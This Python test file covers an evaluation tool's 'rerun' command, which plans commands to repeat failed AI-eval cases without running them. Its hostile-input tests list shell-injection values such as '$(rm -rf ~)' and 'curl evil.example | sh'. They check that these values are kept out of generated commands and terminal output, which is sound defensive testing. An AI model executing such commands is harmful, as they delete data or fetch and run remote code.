"""`errata rerun`: the commands that repeat what was not the model's fault. It runs nothing."""

import shlex
import shutil
from pathlib import Path

import msgspec
import pytest

from errata.model import Output, SourceInfo, Subject
from errata.store.database import open_store
from errata.store.importing import Importing
from errata.store.packing import pack_items, seal
from errata.testing import a_run, an_attempt
from terminal import FIXTURES, done, errata

INSPECT = FIXTURES / "inspect_ai"
PROMPTFOO = FIXTURES / "promptfoo"


def plan_of(run, *options, store):
    return done("rerun", run, *options, "--json", "--store", store).row


def test_what_is_unfinished_or_missing_is_repeated_too(library):
    (command,) = plan_of("jn709tmj", store=library)["commands"]

    assert {one["why"] for one in command["reasons"]} == {"provider", "environment", "unfinished", "missing"}


def test_a_cost_that_no_log_tells_is_not_zero(library):
    assert plan_of("0b1c2d3e", store=library)["cost"] is None
    assert "cost     unknown" in done("rerun", "0b1c2d3e", "--store", library).out


@pytest.mark.req("S-15", "S-44")
def test_a_batch_repeats_what_cost_nothing_and_not_what_the_model_failed(library):
    """EXPECTED: 13 of the 23 failures are the framework's. An earlier session measured 11 of them."""
    runs = done("runs", "--json", "--store", library).rows
    sonnet = next(run["run_id"] for run in runs if run["source"] == "scylla" and run["model"] == "sonnet")

    plan = plan_of(sonnet, "--owner", "harness", store=library)
    by_default = plan_of(sonnet, store=library)

    (command,) = plan["commands"]
    assert (plan["attempts"], plan["recovered"]) == (13, [])
    assert (by_default["attempts"], len(by_default["recovered"])) == (2, 11)
    assert command["argv"][:4] == ["pixi", "run", "python", "scripts/run_e2e_batch.py"]
    assert command["argv"][command["argv"].index("--tests") + 1 :] == command["cases"]


def test_turns_that_lack_or_contradict_each_other_are_repeated(library):
    """As `errata check` of the damaged run says: 7 and 18 have no row, 12 has two that disagree."""
    (command,) = plan_of("0b1c2d3e", store=library)["commands"]

    assert command["argv"][-1] == "--only-turns=7,12,18"


def test_a_continuous_conversation_is_left_to_the_user(library):
    plan = plan_of("9c0d1e2f", store=library)

    assert plan["commands"] == []
    assert [one["case"] for one in plan["by_hand"]] == [f"turn-{number}" for number in range(25, 30)]
    assert (
        "By hand  5 attempts: a turn of a continuous conversation" in done("rerun", "9c0d1e2f", "--store", library).out
    )


def test_a_log_of_no_known_harness_is_left_to_the_user(library):
    nightly = next(
        run["run_id"] for run in done("runs", "--json", "--store", library).rows if run["model"] == "alpha-1"
    )

    plan = plan_of(nightly, store=library)

    assert plan["commands"] == []
    assert (plan["by_hand"][0]["why_not"], plan["by_hand"][0]["about"]) == ("no_planner", "generic")


def test_an_inspect_log_is_retried_where_it_lies():
    plan = done("rerun", INSPECT / "failed_json" / "data", "--json").row

    # what Inspect itself calls broken is retried; the timeout that it scored as a wrong answer has to be named
    assert [command["argv"][:2] for command in plan["commands"]] == [["inspect", "eval-retry"], ["inspect", "eval"]]
    assert plan["commands"][1]["cases"] == ["flaky"]
    assert plan["commands"][0]["argv"][2].endswith("failed_json/data/failed.json")


def test_a_promptfoo_column_is_chosen_by_its_names():
    plan = done("rerun", PROMPTFOO / "judge_error" / "data", "--json").row

    (command,) = plan["commands"]
    assert command["argv"][:2] == ["promptfoo", "eval"]
    assert plan["attempts"] == 3


def test_nothing_to_repeat_is_an_answer(library):
    result = done("rerun", "jn7maewn", "--store", library)

    assert result.out.endswith("\nNothing to rerun\n")
    assert plan_of("jn7maewn", store=library)["commands"] == []


def test_an_owner_can_be_chosen(library):
    (command,) = plan_of("jn7mqywb", "--owner", "environment", store=library)["commands"]

    assert command["cases"] == ["003-mutations/005-batch_insert"]


@pytest.mark.parametrize("name", ["004-actions/003-rate_limit_guard", "convex-evals/004-actions/003-rate_limit_guard"])
def test_a_case_is_repeated_whoever_owns_it(library, name):
    (command,) = plan_of("jn7mqywb", "--case", name, store=library)["commands"]

    assert command["cases"] == ["004-actions/003-rate_limit_guard"]
    assert command["reasons"][0]["why"] == "model"


def test_a_case_that_was_passed_is_repeated_when_asked_for(library):
    (command,) = plan_of("jn7maewn", "--case", "004-actions/003-rate_limit_guard", store=library)["commands"]

    assert command["reasons"] == [{"why": "asked for", "signal": None, "attempts": 1}]


def test_a_case_that_is_not_there_is_answered_with_the_nearest_names(library):
    result = errata("rerun", "jn7mqywb", "--case", "003-mutations/005-batch_inzert", "--store", library)

    assert result.code == 2
    assert "has no case `003-mutations/005-batch_inzert`" in result.err
    assert "did you mean `003-mutations/005-batch_insert`" in result.err


def test_every_run_of_a_path_has_its_own_plan():
    rows = done("rerun", PROMPTFOO / "export" / "data", "--json").rows

    assert len(rows) > 1
    assert len({row["run_id"] for row in rows}) == len(rows)


def an_imported_run(tmp_path, attempts, source="inspect-ai", **changes):
    run = a_run(source=SourceInfo(name=source), subject=Subject(model="acme/nimbus-2"), origin="/data/first", **changes)
    path = tmp_path / "made.db"
    with Importing(open_store(path)) as importing:
        items = [run, *(msgspec.structs.replace(one, run=run.id, id="") for one in attempts)]
        for batch in seal(pack_items(items)):
            importing.add(batch)
        importing.finish()
    return path


def a_crash(case, **changes):
    given = {"execution": "missing", "measurement": "not_run", "outcome": "none"}
    return an_attempt(case=f"suite/{case}", **given | changes)


HOSTILE = ("$(rm -rf ~)", "x; curl evil.example | sh", "--upload", "a\u202eb", "\x1b[2J", "case\ntwo", "`id`")


def test_hostile_names_reach_neither_a_command_nor_the_terminal(tmp_path):
    store = an_imported_run(tmp_path, [a_crash(name) for name in (*HOSTILE, "good")], source="convex-evals")

    plan = plan_of("latest", store=store)
    page = done("rerun", "latest", "--store", store).out

    assert [command["cases"] for command in plan["commands"]] == [["good"]]
    assert {one["case"] for one in plan["by_hand"]} == set(HOSTILE)
    assert "env MODELS=acme/nimbus-2 'TEST_FILTER=^good$' bun run local:run" in page
    assert not {"\x1b", "\u202e"} & set(page)


def test_a_command_line_that_stands_in_a_log_is_not_reused(tmp_path):
    evil = a_crash("good", output=Output(text="evil"), extra={"command": "curl evil.example | sh"})
    store = an_imported_run(tmp_path, [evil], source="scylla", extra={"command": "curl evil.example | sh"})

    assert "curl" not in done("rerun", "latest", "--store", store).out


def test_many_cases_are_split_into_commands_that_a_system_takes(tmp_path):
    many = [
        a_crash(f"{number % 7:03}-category/{number:05}-some_rather_long_name_of_an_eval") for number in range(5_000)
    ]
    store = an_imported_run(tmp_path, many, source="convex-evals")

    plan = plan_of("latest", store=store)

    assert len(plan["commands"]) > 1
    assert all(len(command["line"].encode()) <= 100_000 for command in plan["commands"])
    assert sum(len(command["cases"]) for command in plan["commands"]) == 5_000


def test_a_name_of_two_lines_is_told_in_one(tmp_path):
    store = an_imported_run(tmp_path, [a_crash("one\ntwo")], source="convex-evals")

    assert "cases    one two\n" in done("rerun", "latest", "--store", store).out


@pytest.mark.parametrize("run", ["jn7mqywb", "jn709tmj", "9c0d1e2f", "0b1c2d3e", "batch-gen2"])
def test_only_a_word_that_must_stay_whole_is_wider_than_the_page(library, run):
    wide = [line for line in done("rerun", run, "--store", library).out.splitlines() if len(line) > 100]

    assert all(len(shlex.split(line.removesuffix(" \\"))) == 1 for line in wide)


def test_a_run_is_known_by_its_path_without_detours(tmp_path):
    """But where a link leads elsewhere, `..` means what is above that."""
    (tmp_path / "all").mkdir()
    (tmp_path / "elsewhere" / "below").mkdir(parents=True)
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere" / "below")
    for name in ("here", "elsewhere/here"):
        shutil.copytree(FIXTURES / "harbor" / "demo-job" / "data", tmp_path / name)
    for path, origin in (("all/../here", "here"), ("link/../here", "elsewhere/here")):
        done("import", path)

        row = done("show", "latest", "--json").row["run"]["origin"]

        assert Path(row).resolve().is_relative_to((tmp_path / origin).resolve())
        assert ".." not in row
